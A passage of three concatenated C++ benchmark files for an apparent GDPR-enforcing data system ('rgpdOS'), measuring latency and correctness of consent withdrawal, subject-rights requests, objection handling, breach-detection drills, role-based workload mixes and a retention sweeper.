/// Poisson arrival pacer over the real clock: Schedule() draws the next
/// exponential gap (same inverse-CDF the OpenLoopRecorder uses), sleeps
/// until the scheduled arrival, and returns it; the caller records
/// completion - arrival as the op's open-loop sojourn.
class StormPacer {
 public:
  explicit StormPacer(double qps, std::uint64_t seed = 11)
      : gap_mean_ns_(1e9 / qps), rng_(seed),
        start_(std::chrono::steady_clock::now()) {}

  std::chrono::steady_clock::time_point Schedule() {
    next_arrival_ns_ += -gap_mean_ns_ * std::log(1.0 - rng_.NextDouble());
    const auto arrival =
        start_ + std::chrono::nanoseconds(std::int64_t(next_arrival_ns_));
    std::this_thread::sleep_until(arrival);
    return arrival;
  }

 private:
  double gap_mean_ns_;
  Rng rng_;
  double next_arrival_ns_ = 0;
  std::chrono::steady_clock::time_point start_;
};

double SojournNs(std::chrono::steady_clock::time_point arrival) {
  return double(std::chrono::duration_cast<std::chrono::nanoseconds>(
                    std::chrono::steady_clock::now() - arrival)
                    .count());
}

struct StormWorld {
  RgpdWorld world;
  core::ProcessingId analytics = 0;
  core::ProcessingId automated = 0;  ///< `full` purpose, automated: true
};

core::ProcessingId RegisterAutomatedFull(core::RgpdOs& os) {
  core::ImplManifest manifest;
  manifest.claimed_purpose = "full";
  manifest.fields_read = {"year_of_birthdate"};
  auto id = os.RegisterProcessingSource(
      "purpose full { input: user; automated: true; }",
      [](core::ProcessingInput& input) -> Result<core::ProcessingOutput> {
        core::ProcessingOutput output;
        if (!input.Has("year_of_birthdate")) return output;
        RGPD_ASSIGN_OR_RETURN(db::Value year,
                              input.Field("year_of_birthdate"));
        output.npd.push_back(static_cast<std::uint8_t>(*year.AsInt()));
        return output;
      },
      manifest);
  if (!id.ok()) {
    std::fprintf(stderr, "register automated purpose failed: %s\n",
                 id.status().ToString().c_str());
    std::abort();
  }
  return *id;
}

/// Targeted invoke of one record; returns records_processed (0 = the
/// membrane filtered it, 1 = the implementation saw the PD).
std::uint64_t ProbeRecord(core::RgpdOs& os, core::ProcessingId processing,
                          dbfs::RecordId record) {
  core::InvokeOptions options;
  options.target = core::PdRef{record, "user"};
  auto r = os.ps().Invoke(sentinel::Domain::kApplication, processing,
                          options);
  if (!r.ok()) {
    std::fprintf(stderr, "targeted invoke failed: %s\n",
                 r.status().ToString().c_str());
    std::exit(1);
  }
  return r->records_processed;
}

}  // namespace
}  // namespace rgpdos::bench

int main() {
  using namespace rgpdos;
  using namespace rgpdos::bench;

  const std::size_t subjects =
      std::max<std::uint64_t>(EnvU64("RGPDOS_STORM_SUBJECTS", 300), 40);
  const double qps = double(EnvU64("RGPDOS_STORM_QPS", 2000));
  const unsigned hot_workers =
      unsigned(EnvU64("RGPDOS_STORM_WORKERS", 2));
  const std::size_t access_ops = EnvU64("RGPDOS_STORM_ACCESS_OPS", 200);
  constexpr std::size_t kAuditRing = 256;  ///< deliberately small: the
                                           ///< drill must survive eviction

  StormWorld sw;
  sw.world = MakeRgpdWorld(subjects, /*per_subject=*/1,
                           /*consent_fraction=*/1.0, /*worker_threads=*/2,
                           [](core::BootConfig& config) {
                             config.audit_entries = kAuditRing;
                           });
  core::RgpdOs& os = *sw.world.os;
  sw.analytics = RegisterAnalytics(os, /*derive_output=*/false);
  sw.automated = RegisterAutomatedFull(os);
  const auto record_of = [&](dbfs::SubjectId subject) {
    return sw.world.records[subject - 1];  // subjects are 1-based, 1 rec each
  };

  int failures = 0;
  const auto fail = [&](const char* what) {
    std::fprintf(stderr, "STORM GATE FAILED: %s\n", what);
    ++failures;
  };

  // ---- hot GDPRBench-style invoke traffic, running through every storm ----
  std::atomic<bool> stop{false};
  std::atomic<std::uint64_t> hot_invokes{0};
  std::vector<std::thread> hot;
  hot.reserve(hot_workers);
  for (unsigned w = 0; w < hot_workers; ++w) {
    hot.emplace_back([&] {
      while (!stop.load(std::memory_order_relaxed)) {
        auto r = os.ps().Invoke(sentinel::Domain::kApplication,
                                sw.analytics, {});
        if (!r.ok()) {
          std::fprintf(stderr, "hot invoke failed: %s\n",
                       r.status().ToString().c_str());
          std::exit(1);
        }
        hot_invokes.fetch_add(1, std::memory_order_relaxed);
      }
    });
  }

  LatencyReservoir withdraw_lat;
  LatencyReservoir access_lat;
  LatencyReservoir portability_lat;
  LatencyReservoir objection_lat;
  LatencyReservoir optout_lat;
  LatencyReservoir drill_lat;

  // ---- storm 1: consent-withdrawal flash crowd ----------------------------
  // Subjects [1, subjects/3] revoke `analytics`; each post-ack targeted
  // invoke must filter. A serve here is a stale-consent serve: the
  // revocation acked BEFORE the probe began, so no in-flight race can
  // excuse it.
  const dbfs::SubjectId withdraw_end = dbfs::SubjectId(subjects / 3);
  {
    StormPacer pacer(qps, /*seed=*/21);
    for (dbfs::SubjectId s = 1; s <= withdraw_end; ++s) {
      const auto arrival = pacer.Schedule();
      auto status = os.builtins().RevokeConsent(
          core::PdRef{record_of(s), "user"}, "analytics");
      if (!status.ok()) {
        std::fprintf(stderr, "revoke failed: %s\n",
                     status.ToString().c_str());
        return 1;
      }
      withdraw_lat.Record(SojournNs(arrival));
      if (ProbeRecord(os, sw.analytics, record_of(s)) != 0) {
        fail("stale-consent serve after acked withdrawal");
      }
    }
  }

  // ---- storm 2: subject-access / portability flood ------------------------
  {
    StormPacer pacer(qps, /*seed=*/22);
    Rng rng(97);
    for (std::size_t i = 0; i < access_ops; ++i) {
      const auto subject =
          dbfs::SubjectId(1 + rng.NextU64() % std::uint64_t(subjects));
      const auto arrival = pacer.Schedule();
      if (i % 2 == 0) {
        auto doc = os.RightOfAccess(subject);
        if (!doc.ok()) {
          std::fprintf(stderr, "access failed: %s\n",
                       doc.status().ToString().c_str());
          return 1;
        }
        access_lat.Record(SojournNs(arrival));
      } else {
        auto doc = os.RightToPortability(subject);
        if (!doc.ok()) {
          std::fprintf(stderr, "portability failed: %s\n",
                       doc.status().ToString().c_str());
          return 1;
        }
        portability_lat.Record(SojournNs(arrival));
      }
    }
  }

  // ---- storm 3: objection storm (Art. 21) + automated opt-out (Art. 22) ---
  // Subjects (subjects/3, 2*subjects/3] object to `analytics` — their
  // consent stays GRANTED, the objection alone must block. One in each
  // eight withdraws the objection again and must process once more.
  const dbfs::SubjectId object_begin = withdraw_end + 1;
  const dbfs::SubjectId object_end = dbfs::SubjectId(2 * subjects / 3);
  std::set<dbfs::SubjectId> objected;
  {
    StormPacer pacer(qps, /*seed=*/23);
    for (dbfs::SubjectId s = object_begin; s <= object_end; ++s) {
      const auto arrival = pacer.Schedule();
      auto groups = os.RightToObject(s, "analytics");
      if (!groups.ok()) {
        std::fprintf(stderr, "objection failed: %s\n",
                     groups.status().ToString().c_str());
        return 1;
      }
      objection_lat.Record(SojournNs(arrival));
      objected.insert(s);
      if (ProbeRecord(os, sw.analytics, record_of(s)) != 0) {
        fail("stale-objection serve after acked objection");
      }
      if (s % 8 == 0) {
        if (auto w = os.WithdrawObjection(s, "analytics"); !w.ok()) {
          std::fprintf(stderr, "withdraw objection failed\n");
          return 1;
        }
        objected.erase(s);
        if (ProbeRecord(os, sw.analytics, record_of(s)) != 1) {
          fail("objection withdrawal did not restore processing");
        }
      }
    }
    // Art. 22: a handful of subjects outside the two storm bands opt out
    // of automated decisions; the `automated: true` purpose must filter
    // them even though their `full: all` consent stands.
    StormPacer optout_pacer(qps, /*seed=*/24);
    const dbfs::SubjectId auto_begin = object_end + 1;
    const dbfs::SubjectId auto_end =
        std::min<dbfs::SubjectId>(auto_begin + 7, dbfs::SubjectId(subjects));
    for (dbfs::SubjectId s = auto_begin; s <= auto_end; ++s) {
      const auto arrival = optout_pacer.Schedule();
      if (auto r = os.OptOutAutomatedDecisions(s, true); !r.ok()) {
        std::fprintf(stderr, "automated opt-out failed\n");
        return 1;
      }
      optout_lat.Record(SojournNs(arrival));
      if (ProbeRecord(os, sw.automated, record_of(s)) != 0) {
        fail("automated decision served after acked Art. 22 opt-out");
      }
      // The NON-automated purpose is untouched by the opt-out.
      if (ProbeRecord(os, sw.analytics, record_of(s)) != 1) {
        fail("Art. 22 opt-out wrongly blocked a non-automated purpose");
      }
      if (s % 2 == 0) {
        if (auto r = os.OptOutAutomatedDecisions(s, false); !r.ok()) return 1;
        if (ProbeRecord(os, sw.automated, record_of(s)) != 1) {
          fail("automated opt-in did not restore processing");
        }
      }
    }
  }

  // ---- storm 4: breach drill (Art. 33) ------------------------------------
  // Burst 1: kOutside probes DBFS far past the ring bound; burst 2 (a
  // different actor) floods the ring so burst 1 is fully evicted. The
  // detector must STILL report burst 1 — the durable pipeline holds it.
  const std::size_t burst = 2 * kAuditRing;
  for (std::size_t i = 0; i < burst; ++i) {
    (void)os.sentinel().Enforce({sentinel::Domain::kOutside,
                                 sentinel::Domain::kDbfs,
                                 sentinel::Operation::kRead, "storm probe"});
  }
  for (std::size_t i = 0; i < burst; ++i) {
    (void)os.sentinel().Enforce({sentinel::Domain::kApplication,
                                 sentinel::Domain::kDbfs,
                                 sentinel::Operation::kRead, "storm probe"});
  }

  // Quiesce the hot traffic before the drill and the settle probe.
  stop.store(true);
  for (std::thread& t : hot) t.join();

  sentinel::BreachPolicy policy;
  policy.threshold = 5;
  policy.window = 3600 * kMicrosPerSecond;
  const auto findings = sentinel::DetectBreaches(os.audit(), policy);
  bool outside_burst_found = false;
  for (const auto& finding : findings) {
    if (finding.actor == sentinel::Domain::kOutside &&
        finding.target == sentinel::Domain::kDbfs &&
        finding.denied_attempts >= burst) {
      outside_burst_found = true;
    }
  }
  if (!outside_burst_found) {
    fail("breach burst undetected after ring eviction");
  }
  // Ring-only view, for the report: without the durable path the burst
  // is (partially or fully) gone.
  const auto ring_denials = os.audit().Query(
      [](const sentinel::AuditEntry& e) { return !e.allowed; });
  if (os.audit().dropped_count() != 0) {
    fail("audit entries dropped during the storms");
  }

  // Settle probe: with the storms quiesced, one full-scan invoke must
  // process EXACTLY the subjects that still consent and never objected.
  auto settle = os.ps().Invoke(sentinel::Domain::kApplication,
                               sw.analytics, {});
  if (!settle.ok()) return 1;
  std::set<dbfs::SubjectId> expected;
  for (dbfs::SubjectId s = 1; s <= dbfs::SubjectId(subjects); ++s) {
    if (s <= withdraw_end) continue;            // withdrew consent
    if (objected.count(s) != 0) continue;       // objection stands
    expected.insert(s);
  }
  if (settle->records_processed != expected.size()) {
    std::fprintf(stderr, "settle processed %llu, expected %zu\n",
                 (unsigned long long)settle->records_processed,
                 expected.size());
    fail("settle invoke does not match the rights matrix");
  }

  // The drill: every subject whose PD `analytics` touched, from the
  // chain-verified log. The settle invoke just processed `expected`, so
  // the drill set must contain at least those.
  Stopwatch drill_watch;
  auto drill = core::DrillCompromisedPurpose(os.processing_log(),
                                             "analytics");
  drill_lat.Record(double(drill_watch.ElapsedNanos()));
  if (!drill.ok()) {
    std::fprintf(stderr, "breach drill failed: %s\n",
                 drill.status().ToString().c_str());
    return 1;
  }
  if (!drill->chain_verified) fail("drill ran on an unverified chain");
  for (const dbfs::SubjectId s : expected) {
    if (drill->subjects.count(s) == 0) {
      fail("breach drill missed a subject the settle invoke processed");
      break;
    }
  }

  const metrics::MetricsSnapshot snapshot =
      metrics::MetricsRegistry::Instance().Snapshot();
  const std::uint64_t* stale = snapshot.FindCounter(
      "core.consent.stale_revoked");
  const std::uint64_t* objected_hits =
      snapshot.FindCounter("core.consent.objected");

  std::printf("bench_rights_storm: %zu subjects, %llu hot invokes, "
              "%zu withdrawals, %zu objections, %zu access/portability "
              "ops\n",
              subjects, (unsigned long long)hot_invokes.load(),
              withdraw_lat.count(), objection_lat.count(),
              access_lat.count() + portability_lat.count());
  std::printf("  withdraw    p50 %8.1fus p99 %8.1fus\n",
              withdraw_lat.P50Us(), withdraw_lat.P99Us());
  std::printf("  access      p50 %8.1fus p99 %8.1fus\n",
              access_lat.P50Us(), access_lat.P99Us());
  std::printf("  portability p50 %8.1fus p99 %8.1fus\n",
              portability_lat.P50Us(), portability_lat.P99Us());
  std::printf("  objection   p50 %8.1fus p99 %8.1fus\n",
              objection_lat.P50Us(), objection_lat.P99Us());
  std::printf("  art22 opt   p50 %8.1fus p99 %8.1fus\n",
              optout_lat.P50Us(), optout_lat.P99Us());
  std::printf("  drill       %8.1fus (%llu entries, %zu subjects)\n",
              drill_lat.P50Us(),
              (unsigned long long)drill->entries_scanned,
              drill->subjects.size());
  std::printf("  breach: %zu findings (ring-only denials retained: %zu "
              "of %zu), stale-consent races caught: %llu, objected "
              "filters: %llu\n",
              findings.size(), ring_denials.size(), 2 * burst,
              stale != nullptr ? (unsigned long long)*stale : 0ULL,
              objected_hits != nullptr
                  ? (unsigned long long)*objected_hits : 0ULL);

  DumpBenchArtifact(
      "rights_storm",
      {
          {"subjects", double(subjects)},
          {"hot_invokes", double(hot_invokes.load())},
          {"withdraw_p50_us", withdraw_lat.P50Us()},
          {"withdraw_p99_us", withdraw_lat.P99Us()},
          {"access_p50_us", access_lat.P50Us()},
          {"access_p99_us", access_lat.P99Us()},
          {"portability_p50_us", portability_lat.P50Us()},
          {"portability_p99_us", portability_lat.P99Us()},
          {"objection_p50_us", objection_lat.P50Us()},
          {"objection_p99_us", objection_lat.P99Us()},
          {"art22_optout_p50_us", optout_lat.P50Us()},
          {"art22_optout_p99_us", optout_lat.P99Us()},
          {"breach_drill_us", drill_lat.P50Us()},
          {"breach_findings", double(findings.size())},
          {"drill_subjects", double(drill->subjects.size())},
          {"drill_entries_scanned", double(drill->entries_scanned)},
          {"audit_dropped", double(os.audit().dropped_count())},
          {"audit_evicted", double(os.audit().evicted_count())},
          {"stale_revoked_caught",
           stale != nullptr ? double(*stale) : 0.0},
          {"storm_gate_failures", double(failures)},
      });

  if (failures != 0) {
    std::fprintf(stderr, "bench_rights_storm: %d gate failure(s)\n",
                 failures);
    return 1;
  }
  std::printf("bench_rights_storm: all rights-matrix gates passed\n");
  return 0;
}
