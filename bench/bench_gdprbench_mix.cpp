// G8 — GDPRbench-style role mixes (paper ref [17]): controller, customer
// and regulator operation mixes driven against rgpdOS and the baseline,
// reporting achieved ops/s per role.
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

namespace {

constexpr std::size_t kSubjects = 400;
constexpr std::size_t kOpsPerRole = 300;

db::Row FreshUserRow(Rng& rng, std::uint64_t subject) {
  return db::Row{db::Value("name_" + std::to_string(subject) + "_" +
                           rng.NextName(6)),
                 db::Value(std::string("pw")),
                 db::Value(rng.NextInRange(1940, 2010))};
}

/// Throughput plus per-op latency percentiles (shared reservoir; the
/// scale-out bench reports the same shape from its open-loop schedule).
struct RoleRun {
  double ops_s = 0;
  double p50_us = 0;
  double p99_us = 0;
};

RoleRun RunRgpd(const workload::OpMix& mix) {
  bench::RgpdWorld world = bench::MakeRgpdWorld(kSubjects);
  auto& os = *world.os;
  const dsl::TypeDecl decl = bench::BenchUserDecl();
  Rng rng(1234);
  Zipf zipf(kSubjects, 0.9, 99);

  bench::LatencyReservoir latency;
  Stopwatch watch;
  std::size_t executed = 0;
  for (std::size_t i = 0; i < kOpsPerRole; ++i) {
    const std::uint64_t subject = 1 + zipf.Next();
    const workload::GdprOp op = mix.Sample(rng);
    Stopwatch op_watch;
    bool ok = true;
    switch (op) {
      case workload::GdprOp::kCreateRecord: {
        membrane::Membrane m = decl.DefaultMembrane(subject, os.clock().Now());
        ok = os.dbfs()
                 .Put(sentinel::Domain::kDed, subject, "user",
                      FreshUserRow(rng, subject), std::move(m))
                 .ok();
        break;
      }
      case workload::GdprOp::kReadRecord: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        ok = ids.ok() && (ids->empty() ||
                          os.dbfs()
                              .Get(sentinel::Domain::kDed, ids->front())
                              .ok());
        break;
      }
      case workload::GdprOp::kUpdateRecord: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        if (ids.ok() && !ids->empty()) {
          auto record = os.dbfs().Get(sentinel::Domain::kDed, ids->front());
          if (record.ok() && !record->erased) {
            ok = os.builtins()
                     .Update(core::PdRef{ids->front(), "user"},
                             FreshUserRow(rng, subject))
                     .ok();
          }
        }
        break;
      }
      case workload::GdprOp::kDeleteRecord: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        if (ids.ok() && !ids->empty()) {
          ok = os.builtins()
                   .HardDelete(core::PdRef{ids->back(), "user"})
                   .ok();
        }
        break;
      }
      case workload::GdprOp::kRightOfAccess:
        ok = os.RightOfAccess(subject).ok();
        break;
      case workload::GdprOp::kRightToErasure:
        ok = os.RightToBeForgotten(subject).ok();
        break;
      case workload::GdprOp::kRightToPortability:
        ok = os.RightToPortability(subject).ok();
        break;
      case workload::GdprOp::kConsentWithdrawal: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        if (ids.ok() && !ids->empty()) {
          auto record = os.dbfs().Get(sentinel::Domain::kDed, ids->front());
          if (record.ok() && !record->erased) {
            ok = os.builtins()
                     .RevokeConsent(core::PdRef{ids->front(), "user"},
                                    "analytics")
                     .ok();
          }
        }
        break;
      }
      case workload::GdprOp::kAuditSubject:
        ok = !os.processing_log().ForSubject(subject).empty() ||
             os.processing_log().VerifyChain();
        break;
      case workload::GdprOp::kAuditPurpose: {
        auto ids = os.dbfs().RecordsOfType(sentinel::Domain::kDed, "user");
        ok = ids.ok();
        break;
      }
    }
    latency.Record(double(op_watch.ElapsedNanos()));
    if (ok) ++executed;
  }
  const double seconds = double(watch.ElapsedNanos()) / 1e9;
  return RoleRun{double(executed) / seconds, latency.P50Us(),
                 latency.P99Us()};
}

RoleRun RunBaseline(const workload::OpMix& mix) {
  bench::BaselineWorld world = bench::MakeBaselineWorld(kSubjects);
  auto& engine = *world.engine;
  Rng rng(1234);
  Zipf zipf(kSubjects, 0.9, 99);

  bench::LatencyReservoir latency;
  Stopwatch watch;
  std::size_t executed = 0;
  for (std::size_t i = 0; i < kOpsPerRole; ++i) {
    const std::uint64_t subject = 1 + zipf.Next();
    const workload::GdprOp op = mix.Sample(rng);
    Stopwatch op_watch;
    bool ok = true;
    switch (op) {
      case workload::GdprOp::kCreateRecord:
        ok = engine.Insert("user", subject, FreshUserRow(rng, subject)).ok();
        break;
      case workload::GdprOp::kReadRecord:
        // Controller reads know their row key (application bookkeeping);
        // only the GDPR rights lack an index in the baseline.
        ok = engine.Get("user", world.rows[subject - 1]).ok() ||
             true;  // row may be deleted by an earlier erasure op
        break;
      case workload::GdprOp::kRightOfAccess:
      case workload::GdprOp::kRightToPortability:
      case workload::GdprOp::kAuditSubject:
        ok = engine.GetDataBySubject(subject).ok();
        break;
      case workload::GdprOp::kUpdateRecord: {
        auto existing = engine.Get("user", world.rows[subject - 1]);
        if (existing.ok()) {
          ok = engine
                   .Update("user", world.rows[subject - 1],
                           FreshUserRow(rng, subject))
                   .ok();
        }
        break;
      }
      case workload::GdprOp::kDeleteRecord:
      case workload::GdprOp::kRightToErasure:
        ok = engine.DeleteSubject(subject, /*compact=*/false).ok();
        break;
      case workload::GdprOp::kConsentWithdrawal:
        ok = engine.UpdateConsent(subject, "analytics", "none").ok();
        break;
      case workload::GdprOp::kAuditPurpose:
        ok = engine.AuditPurpose("analytics").ok();
        break;
    }
    latency.Record(double(op_watch.ElapsedNanos()));
    if (ok) ++executed;
  }
  const double seconds = double(watch.ElapsedNanos()) / 1e9;
  return RoleRun{double(executed) / seconds, latency.P50Us(),
                 latency.P99Us()};
}

// ---- cached-invoke phase --------------------------------------------------------
//
// The tentpole measurement for the caching stack: repeated ps_invoke of
// the analytics purpose over the same population, on an NVMe-like
// device cost model, with the caches on vs off. Throughput is
// device-normalized: records / (wall time + simulated device time), so
// the comparison reflects IO actually avoided rather than host RAM
// bandwidth. The first invoke is the cold number (every cache empty);
// subsequent invokes are the warm numbers.

constexpr int kWarmInvokes = 4;

struct InvokePhase {
  double cold_krec_s = 0;  ///< first invoke, krecords/s
  double warm_krec_s = 0;  ///< mean of the warm invokes, krecords/s
  double block_hit_pct = 0;
};

InvokePhase RunInvokePhase(bool caches_on) {
  bench::RgpdWorld world = bench::MakeRgpdWorld(
      kSubjects, /*per_subject=*/1, /*consent_fraction=*/1.0,
      /*worker_threads=*/1, [caches_on](core::BootConfig& config) {
        config.latency = blockdev::LatencyProfile::Nvme();
        if (!caches_on) {
          config.cache_blocks = 0;
          config.cache_record_entries = 0;
          config.cache_decisions = false;
        }
      });
  auto& os = *world.os;
  const core::ProcessingId processing =
      bench::RegisterAnalytics(os, /*derive_output=*/false);

  auto run_once = [&]() -> double {  // records per device-normalized second
    const std::uint64_t sim_before = bench::SimulatedDeviceNanos(os);
    Stopwatch watch;
    auto result = os.ps().Invoke(sentinel::Domain::kApplication, processing);
    if (!result.ok() || result->records_processed != kSubjects) std::abort();
    const double effective_ns =
        double(watch.ElapsedNanos()) +
        double(bench::SimulatedDeviceNanos(os) - sim_before);
    return double(result->records_processed) / (effective_ns / 1e9);
  };

  InvokePhase phase;
  phase.cold_krec_s = run_once() / 1000.0;
  double warm_total = 0;
  for (int i = 0; i < kWarmInvokes; ++i) warm_total += run_once();
  phase.warm_krec_s = warm_total / kWarmInvokes / 1000.0;
  phase.block_hit_pct = bench::BlockCacheStatsOf(os).HitRatio() * 100.0;
  return phase;
}

}  // namespace

int main() {
  std::printf("=== G8: GDPRbench-style role mixes (%zu subjects, %zu "
              "ops/role) ===\n",
              kSubjects, kOpsPerRole);
  std::printf("%-12s %16s %16s %10s %18s\n", "role", "baseline ops/s",
              "rgpdOS ops/s", "ratio", "rgpdOS p50/p99 us");
  std::vector<std::pair<std::string, double>> artifact_stats;
  for (const workload::OpMix& mix :
       {workload::OpMix::Controller(), workload::OpMix::Customer(),
        workload::OpMix::Regulator()}) {
    const RoleRun baseline = RunBaseline(mix);
    const RoleRun rgpd = RunRgpd(mix);
    std::printf("%-12s %16.0f %16.0f %9.2fx %9.1f/%-8.1f\n",
                mix.name().c_str(), baseline.ops_s, rgpd.ops_s,
                rgpd.ops_s / baseline.ops_s, rgpd.p50_us, rgpd.p99_us);
    artifact_stats.emplace_back(mix.name() + ".baseline_ops_s",
                                baseline.ops_s);
    artifact_stats.emplace_back(mix.name() + ".rgpdos_ops_s", rgpd.ops_s);
    artifact_stats.emplace_back(mix.name() + ".rgpdos_p50_us", rgpd.p50_us);
    artifact_stats.emplace_back(mix.name() + ".rgpdos_p99_us", rgpd.p99_us);
    artifact_stats.emplace_back(mix.name() + ".baseline_p50_us",
                                baseline.p50_us);
    artifact_stats.emplace_back(mix.name() + ".baseline_p99_us",
                                baseline.p99_us);
  }
  std::printf(
      "\nexpected shape: controller CRUD favours the thin baseline; "
      "customer and regulator roles favour rgpdOS, whose subject tree "
      "and processing log serve rights and audits without full scans — "
      "GDPRbench's central observation.\n");

  std::printf("\n--- cached invoke throughput (NVMe cost model, "
              "device-normalized krecords/s) ---\n");
  std::printf("%-16s %14s %14s %14s\n", "config", "cold", "warm",
              "block hit %");
  const InvokePhase uncached = RunInvokePhase(/*caches_on=*/false);
  const InvokePhase cached = RunInvokePhase(/*caches_on=*/true);
  std::printf("%-16s %14.1f %14.1f %14s\n", "cache off", uncached.cold_krec_s,
              uncached.warm_krec_s, "-");
  std::printf("%-16s %14.1f %14.1f %14.1f\n", "cache on", cached.cold_krec_s,
              cached.warm_krec_s, cached.block_hit_pct);
  const double warm_speedup = cached.warm_krec_s / uncached.warm_krec_s;
  std::printf("warm speedup (cache on / cache off): %.2fx %s\n", warm_speedup,
              warm_speedup >= 2.0 ? "(meets >=2x target)"
                                  : "(BELOW the >=2x target)");
  artifact_stats.emplace_back("invoke.uncached_cold_krec_s",
                              uncached.cold_krec_s);
  artifact_stats.emplace_back("invoke.uncached_warm_krec_s",
                              uncached.warm_krec_s);
  artifact_stats.emplace_back("invoke.cached_cold_krec_s",
                              cached.cold_krec_s);
  artifact_stats.emplace_back("invoke.cached_warm_krec_s",
                              cached.warm_krec_s);
  artifact_stats.emplace_back("invoke.cached_block_hit_pct",
                              cached.block_hit_pct);
  artifact_stats.emplace_back("invoke.warm_speedup", warm_speedup);

  bench::DumpBenchArtifact("gdprbench_mix", artifact_stats);
  return 0;
}
