// Retention sweeper bench (DESIGN.md "Retention & storage limitation"):
//
//   1. Sweep throughput — how fast the background daemon converts an
//      expired backlog into journaled erasures (records/sec, pages/sec),
//      measured by driving SweepOnce to completion over a half-expired
//      population.
//   2. Foreground interference — p50/p99 ps_invoke latency with the
//      daemon idle vs. sweeping a continuously refilled backlog. The
//      token bucket + invokes-in-flight backpressure exist to keep the
//      p99 ratio close to 1.
//
// Artifact: BENCH_retention.json.
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <string>
#include <thread>
#include <vector>

#include "bench/bench_util.hpp"
#include "core/retention.hpp"

namespace rgpdos::bench {
namespace {

constexpr std::size_t kSubjects = 96;
constexpr std::size_t kPerSubject = 3;
constexpr int kInvokes = 24;
constexpr TimeMicros kShortTtl = 500;

using Clk = std::chrono::steady_clock;

/// Give every record of `subjects` [first, last] a short TTL, so an
/// Advance on the sim clock expires them all at once.
void ExpireSubjects(core::RgpdOs& os, const RgpdWorld& world,
                    std::size_t first, std::size_t last) {
  for (std::size_t s = first; s <= last; ++s) {
    for (std::size_t r = 0; r < world.per_subject; ++r) {
      const dbfs::RecordId id =
          world.records[(s - 1) * world.per_subject + r];
      auto m = os.dbfs().GetMembrane(sentinel::Domain::kDed, id);
      if (!m.ok()) std::abort();
      m->SetTtl(kShortTtl);
      if (!os.dbfs().UpdateMembrane(sentinel::Domain::kDed, id, *m).ok()) {
        std::abort();
      }
    }
  }
}

double Percentile(std::vector<double> xs, double p) {
  if (xs.empty()) return 0;
  std::sort(xs.begin(), xs.end());
  const std::size_t i = static_cast<std::size_t>(p * double(xs.size() - 1));
  return xs[i];
}

/// p50/p99 of kInvokes full-population analytics invokes, microseconds.
std::pair<double, double> InvokeLatencies(core::RgpdOs& os,
                                          core::ProcessingId processing) {
  std::vector<double> us;
  us.reserve(kInvokes);
  for (int i = 0; i < kInvokes; ++i) {
    const auto start = Clk::now();
    auto r = os.ps().Invoke(sentinel::Domain::kApplication, processing, {});
    if (!r.ok()) std::abort();
    us.push_back(
        double(std::chrono::duration_cast<std::chrono::nanoseconds>(
                   Clk::now() - start)
                   .count()) /
        1000.0);
  }
  return {Percentile(us, 0.50), Percentile(us, 0.99)};
}

}  // namespace
}  // namespace rgpdos::bench

int main() {
  using namespace rgpdos;
  using namespace rgpdos::bench;

  // ---- phase 1: sweep throughput over an expired backlog -------------------
  RgpdWorld world = MakeRgpdWorld(
      kSubjects, kPerSubject, /*consent_fraction=*/1.0, /*worker_threads=*/1,
      [](core::BootConfig& config) { config.use_sim_clock = true; });
  core::RgpdOs& os = *world.os;
  // Half the population expires; the other half must survive the sweep.
  ExpireSubjects(os, world, 1, kSubjects / 2);
  os.sim_clock()->Advance(kShortTtl * 2);
  const std::uint64_t backlog = (kSubjects / 2) * kPerSubject;

  std::uint64_t pages = 0;
  const auto sweep_start = Clk::now();
  while (os.retention().total_erased() < backlog) {
    auto report = os.retention().SweepOnce();
    if (!report.ok()) std::abort();
    pages += report->pages;
  }
  const double sweep_secs =
      std::chrono::duration<double>(Clk::now() - sweep_start).count();
  const double erased_per_sec = double(backlog) / sweep_secs;
  const double pages_per_sec = double(pages) / sweep_secs;
  std::printf("sweep:        %llu expired records erased in %.3fs "
              "(%.0f rec/s, %.0f pages/s)\n",
              static_cast<unsigned long long>(backlog), sweep_secs,
              erased_per_sec, pages_per_sec);

  // ---- phase 2: foreground latency, daemon idle vs. sweeping ---------------
  RgpdWorld fg = MakeRgpdWorld(
      kSubjects, kPerSubject, /*consent_fraction=*/1.0, /*worker_threads=*/1,
      [](core::BootConfig& config) {
        config.use_sim_clock = true;
        config.retention_interval_ms = 1;  // daemon spins hard when started
        config.retention_pages_per_sweep = 8;
      });
  core::RgpdOs& fos = *fg.os;
  const core::ProcessingId processing = RegisterAnalytics(fos, false);
  // Warm-up, then the quiet baseline (daemon constructed but stopped).
  (void)InvokeLatencies(fos, processing);
  const auto [idle_p50, idle_p99] = InvokeLatencies(fos, processing);

  // Expire half the population and let the daemon chew on it while the
  // foreground keeps invoking. The expired half keeps the sweeper busy
  // for the whole measurement (8 pages/ms ceiling, plus yields).
  ExpireSubjects(fos, fg, 1, kSubjects / 2);
  fos.sim_clock()->Advance(kShortTtl * 2);
  fos.retention().Start();
  const auto [busy_p50, busy_p99] = InvokeLatencies(fos, processing);
  const std::uint64_t erased_during = fos.retention().total_erased();
  const double p99_ratio = idle_p99 > 0 ? busy_p99 / idle_p99 : 0;

  // Foreground goes quiet: the daemon must now drain the whole backlog.
  const std::uint64_t fg_backlog = (kSubjects / 2) * kPerSubject;
  const auto drain_start = Clk::now();
  while (fos.retention().total_erased() < fg_backlog) {
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
    if (std::chrono::duration<double>(Clk::now() - drain_start).count() >
        30.0) {
      std::fprintf(stderr, "daemon failed to drain the backlog\n");
      std::abort();
    }
  }
  const double drain_secs =
      std::chrono::duration<double>(Clk::now() - drain_start).count();
  fos.retention().Stop();
  std::printf("foreground:   idle p50=%.1fus p99=%.1fus | sweeping "
              "p50=%.1fus p99=%.1fus (p99 ratio %.2fx)\n",
              idle_p50, idle_p99, busy_p50, busy_p99, p99_ratio);
  std::printf("daemon:       erased %llu during contention (backpressure), "
              "drained the remaining %llu in %.3fs once quiet\n",
              static_cast<unsigned long long>(erased_during),
              static_cast<unsigned long long>(fg_backlog - erased_during),
              drain_secs);

  DumpBenchArtifact(
      "retention",
      {{"backlog_records", double(backlog)},
       {"sweep_seconds", sweep_secs},
       {"erased_per_sec", erased_per_sec},
       {"pages_per_sec", pages_per_sec},
       {"foreground_idle_p50_us", idle_p50},
